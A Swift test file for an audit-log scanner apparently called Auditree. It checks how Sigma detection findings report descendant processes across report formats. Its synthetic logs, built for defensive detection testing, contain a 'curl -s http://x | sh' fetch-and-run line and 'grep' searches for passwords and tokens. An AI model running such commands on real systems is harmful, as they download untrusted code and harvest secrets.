import Foundation
import TestSupport
import Testing

@testable import AuditreeParser
@testable import AuditreeRules
@testable import AuditreeScan
@testable import AuditreeTree

/// Sigma findings carry what ran below their process, as built-in findings do, without
/// claiming it: the built-in rules still judge every exec there.
@Suite("Sigma descendants")
struct SigmaDescendantsTests {
    /// Every recorded fixture.
    static let recorded: [String] = {
        let folder = Fixtures.root.appendingPathComponent("fixtures/recorded")
        let names = (try? FileManager.default.contentsOfDirectory(atPath: folder.path)) ?? []
        return names.filter { $0.hasSuffix(".log") }.map { String($0.dropLast(4)) }.sorted()
    }()

    static func writeRules(_ files: [String: String]) throws -> URL {
        let directory = FileManager.default.temporaryDirectory.appendingPathComponent(
            "auditree-sigma-descendants-\(getpid())-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
        for (name, text) in files {
            try text.write(to: directory.appendingPathComponent(name), atomically: true, encoding: .utf8)
        }
        return directory
    }

    static let shellNames = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox"]
    static let shells = "[" + shellNames.map { "/" + $0 }.joined(separator: ", ") + "]"

    /// A process_creation rule on every shell exec, and an auditd rule on the SYSCALL record of
    /// every successful shell exec: the process that made that event is the shell.

    static let rules: [String: String] = [
        "exec.yml": """
        title: a shell
        id: 5e1d0000-0000-4000-8000-000000000001
        author: auditree tests
        logsource: {category: process_creation, product: linux}
        detection:
            selection:
                Image|endswith: \(shells)
            condition: selection
        level: low
        """,
        "event.yml": """
        title: a shell's exec event
        id: 5e1d0000-0000-4000-8000-000000000002
        author: auditree tests
        logsource: {product: linux, service: auditd}
        detection:
            selection:
                type: SYSCALL
                SYSCALL: [execve, execveat]
                success: 'yes'
                exe|endswith: \(shells)
            condition: selection
        level: low
        """,
    ]

    /// What ran below a finding, as the reports list it: pid, depth and command line per exec.
    static func below(_ finding: Finding) -> [String] {
        finding.descendants.map { "\($0.process.pid)@\($0.depth) \($0.process.image.map(commandLine) ?? "?")" }
            + (finding.descendantsOmitted > 0 ? ["+\(finding.descendantsOmitted)"] : [])
    }

    static func commandLine(_ image: ProcessImage) -> String { NameMatcher.commandLine(image) }

    static func scan(_ log: String, sigma: [String], defaults: Bool = true) throws -> ScanReport {
        var configuration = ScanConfiguration(inputs: [log])
        configuration.sigmaPaths = sigma
        configuration.useDefaultRules = defaults
        configuration.showSuppressed = true
        return try Scanner.run(configuration)
    }

    @Test(
        "On the recordings, a Sigma finding on a built-in finding's shell (per exec and per event) lists the same descendants",
        arguments: recorded)
    func sameAsBuiltIn(_ name: String) throws {
        let directory = try Self.writeRules(Self.rules)
        defer { try? FileManager.default.removeItem(at: directory) }
        let report = try Self.scan(Fixtures.recorded(name), sigma: [directory.path])
        let builtIn = report.findings.filter { !$0.rule.isSigma }
        var compared = 0
        for finding in builtIn {
            guard let image = finding.process.image, let exe = image.exe?.basename.lossyString,
                Self.shellNames.contains(exe)
            else { continue }
            for id in ["5e1d0000-0000-4000-8000-000000000001", "5e1d0000-0000-4000-8000-000000000002"] {
                let twin = report.findings.first {
                    $0.rule.id == id && $0.process.pid == finding.process.pid && $0.process.image?.stamp == image.stamp
                }
                guard let twin else {
                    Issue.record("\(name): no finding of \(id) for the shell of pid \(finding.process.pid)")
                    continue
                }
                #expect(Self.below(twin) == Self.below(finding), "\(name) pid \(finding.process.pid) rule \(id)")
                if !finding.descendants.isEmpty { compared += 1 }
            }
        }
        // Where the built-in rules find a shell that ran something, the comparison above saw it.
        if builtIn.contains(where: { !$0.descendants.isEmpty }) { #expect(compared > 0, "\(name)") }
    }

    @Test("On the recordings, built-in findings are the same with Sigma rules loaded", arguments: recorded)
    func builtInUnchanged(_ name: String) throws {
        let directory = try Self.writeRules(Self.rules)
        defer { try? FileManager.default.removeItem(at: directory) }
        func summary(_ findings: [Finding]) -> [String] {
            findings.filter { !$0.rule.isSigma }.map { finding in
                "\(finding.rule.id) \(finding.rule.severity) pid \(finding.process.pid) "
                    + "context \(finding.context.map(\.id)) below \(Self.below(finding))"
            }
        }
        let without = try Self.scan(Fixtures.recorded(name), sigma: [])
        let with = try Self.scan(Fixtures.recorded(name), sigma: [directory.path])
        #expect(summary(with.findings) == summary(without.findings))
        #expect(summary(with.summary.suppressedFindings) == summary(without.summary.suppressedFindings))
    }

    static func rule(id: String, image: String) -> String {
        """
        title: \(image)
        id: \(id)
        author: auditree tests
        logsource: {category: process_creation, product: linux}
        detection:
            selection:
                Image|endswith: '\(image)'
            condition: selection
        level: low
        """
    }

    @Test("A Sigma finding above a built-in finding lists the shell and what it ran; the built-in finding stays")
    func aboveBuiltIn() throws {
        var log = LogBuilder()
        log.exec(pid: 100, ppid: 1, exe: "/usr/bin/python3.11", ["python3", "app.py"])
        log.exec(pid: 101, ppid: 100, exe: "/usr/bin/dash", ["sh", "-c", "curl -s http://x | sh"])
        log.exec(pid: 102, ppid: 101, exe: "/usr/bin/curl", ["curl", "-s", "http://x"])
        log.exec(pid: 103, ppid: 101, exe: "/usr/bin/dash", ["sh"])
        log.exec(pid: 104, ppid: 103, exe: "/usr/bin/id", ["id"])
        let path = try log.write("sigma-above-builtin")
        defer { try? FileManager.default.removeItem(atPath: path) }
        let directory = try Self.writeRules([
            "python.yml": Self.rule(id: "5e1d0000-0000-4000-8000-000000000003", image: "/python3.11"),
            "curl.yml": Self.rule(id: "5e1d0000-0000-4000-8000-000000000004", image: "/curl"),
        ])
        defer { try? FileManager.default.removeItem(at: directory) }
        let report = try Self.scan(path, sigma: [directory.path])
        let python = try #require(report.findings.first { $0.rule.id.hasSuffix("03") })
        #expect(
            Self.below(python) == [
                "101@1 sh -c curl -s http://x | sh", "102@2 curl -s http://x", "103@2 sh", "104@3 id",
            ])
        // The built-in finding for the shell is still made, with its own story.
        let shell = try #require(report.findings.first { $0.rule.id == "interpreter_shell_spawn" })
        #expect(shell.process.pid == 101)
        #expect(Self.below(shell) == ["102@1 curl -s http://x", "103@1 sh", "104@2 id"])
        // A Sigma finding inside the built-in finding's story: curl ran nothing.
        let curl = try #require(report.findings.first { $0.rule.id.hasSuffix("04") })
        #expect(curl.process.pid == 102 && curl.descendants.isEmpty && curl.descendantsOmitted == 0)
    }

    @Test(
        "A chain of nested Sigma findings: each process is followed for the nearest 16, the farther count it as not shown"
    )
    func nestedChain() throws {
        var log = LogBuilder()
        let depth = 20
        for level in 0..<depth {
            log.exec(
                pid: 300 + level, ppid: level == 0 ? 1 : 299 + level, exe: "/usr/bin/bash", ["bash", "-c", "x\(level)"])
        }
        let path = try log.write("sigma-nested-chain")
        defer { try? FileManager.default.removeItem(atPath: path) }
        let directory = try Self.writeRules([
            "bash.yml": Self.rule(id: "5e1d0000-0000-4000-8000-000000000005", image: "/bash")
        ])
        defer { try? FileManager.default.removeItem(at: directory) }
        let report = try Self.scan(path, sigma: [directory.path], defaults: false)
        #expect(report.findings.count == depth)
        func finding(_ level: Int) throws -> Finding {
            try #require(report.findings.first { $0.process.pid == 300 + level })
        }
        let limit = ProcessTree.maxWatches
        // Level 0 is followed down to level 16 at least; there it gives way to level 16's own
        // finding, and its list says it is incomplete.
        #expect(try finding(0).descendants.map(\.process.pid).prefix(limit) == ArraySlice(301...(300 + limit)))
        #expect(try finding(0).descendantsOmitted == 1)
        // The last level that follows the whole rest of the chain.
        let whole = depth - limit
        #expect(try finding(whole).descendants.map(\.process.pid) == Array((301 + whole)..<(300 + depth)))
        #expect(try finding(whole).descendantsOmitted == 0)
        #expect(try finding(whole).descendants.map(\.depth) == Array(1..<(depth - whole)))
        #expect(try finding(depth - 1).descendants.isEmpty)
    }

    static let htmlData = "<script type=\"application/json\" id=\"auditree-data\">"

    /// The descendant pids of each finding a report shows, by the finding's pid, per format.
    static func descendantPids(_ format: String, _ output: String) throws -> [Int: [Int]] {
        func fromJSON(_ text: String) throws -> [Int: [Int]] {
            let document = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
            var result: [Int: [Int]] = [:]
            for finding in try #require(document["findings"] as? [[String: Any]]) {
                let process = try #require(finding["process"] as? [String: Any])
                let below = try #require(finding["descendants"] as? [[String: Any]])
                result[try #require(process["pid"] as? Int)] = below.compactMap { $0["pid"] as? Int }
            }
            return result
        }
        switch format {
        case "json": return try fromJSON(output)
        case "html":
            let start = try #require(output.range(of: htmlData))
            let end = try #require(output.range(of: "</script>", range: start.upperBound..<output.endIndex))
            return try fromJSON(String(output[start.upperBound..<end.lowerBound]))
        default:
            // Text and JUnit (whose case body is the text report): the pids listed under "ran below".
            var result: [Int: [Int]] = [:]
            var shell: Int?
            var below = false
            for line in output.split(separator: "\n", omittingEmptySubsequences: false) {
                let words = line.split(separator: " ")
                if line.hasPrefix("  shell    pid "), words.count > 2 {
                    shell = Int(words[2])
                    below = false
                    if let shell { result[shell] = [] }
                } else if line.hasPrefix("  ran below") {
                    below = true
                } else if below, line.hasPrefix("      pid "), let shell, words.count > 1, let pid = Int(words[1]) {
                    result[shell, default: []].append(pid)
                } else if !line.hasPrefix("    ") {
                    below = false
                }
            }
            return result
        }
    }

    @Test(
        "Every report format shows a Sigma finding's descendants (NDJSON/ECS their count)",
        arguments: ["text", "json", "junit", "html", "ndjson"])
    func formats(_ format: String) throws {
        let directory = try Self.writeRules([
            "cgi.yml": """
            title: dash under lighttpd
            id: 5e1d0000-0000-4000-8000-000000000006
            author: auditree tests
            logsource: {category: process_creation, product: linux}
            detection:
                selection:
                    Image|endswith: /dash
                    ParentImage|endswith: /lighttpd
                condition: selection
            level: high
            """
        ])
        defer { try? FileManager.default.removeItem(at: directory) }
        let log = "fixtures/recorded/webdaemon-enriched-fork.log"
        let run = try CLI.run(["scan", "--no-default-rules", "--sigma", directory.path, "--format", format, log])
        #expect(run.status == 1, "\(run.stderr)")
        // The two CGI shells lighttpd started each ran id.
        let expected = [9543: [9544], 9554: [9555]]
        if format == "ndjson" {
            var counts: [Int: Int] = [:]
            for line in run.text.split(separator: "\n") {
                let event = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
                let process = try #require(event["process"] as? [String: Any])
                let auditree = try #require(event["auditree"] as? [String: Any])
                counts[try #require(process["pid"] as? Int)] = auditree["descendants"] as? Int
            }
            #expect(counts == expected.mapValues(\.count))
        } else {
            #expect(try Self.descendantPids(format, run.text) == expected)
        }
    }

    @Test("An auditd finding lists what its process ran after the event, not what it had run before")
    func afterTheEvent() throws {
        let directory = try Self.writeRules([
            "hidden.yml": """
            title: a hidden file in /tmp
            id: 5e1d0000-0000-4000-8000-000000000007
            author: auditree tests
            logsource: {product: linux, service: auditd}
            detection:
                selection:
                    type: PATH
                    name|startswith: /tmp/.
                condition: selection
            level: medium
            """
        ])
        defer { try? FileManager.default.removeItem(at: directory) }
        let log = Fixtures.root.appendingPathComponent("fixtures/sigma-auditd/auditd-records.log").path
        let report = try Self.scan(log, sigma: [directory.path], defaults: false)
        // bash -l (pid 500) creates /tmp/.x y (line 13) after starting cat, ls and iptables
        // (pids 501-503) and before truncate, dd, dd, grep and grep (pids 504-508).
        let finding = try #require(report.findings.first)
        #expect(report.findings.count == 1 && finding.process.pid == 500 && finding.location.line == 13)
        #expect(
            Self.below(finding) == [
                "504@1 truncate -s +1K /tmp/x.bin", "505@1 dd if=/dev/zero bs=1 count=64",
                "506@1 dd if=/dev/zero of=/tmp/x.bin bs=1 count=64 conv=notrunc", "507@1 grep -r password /etc",
                "508@1 grep -ri token .",
            ])
    }
}
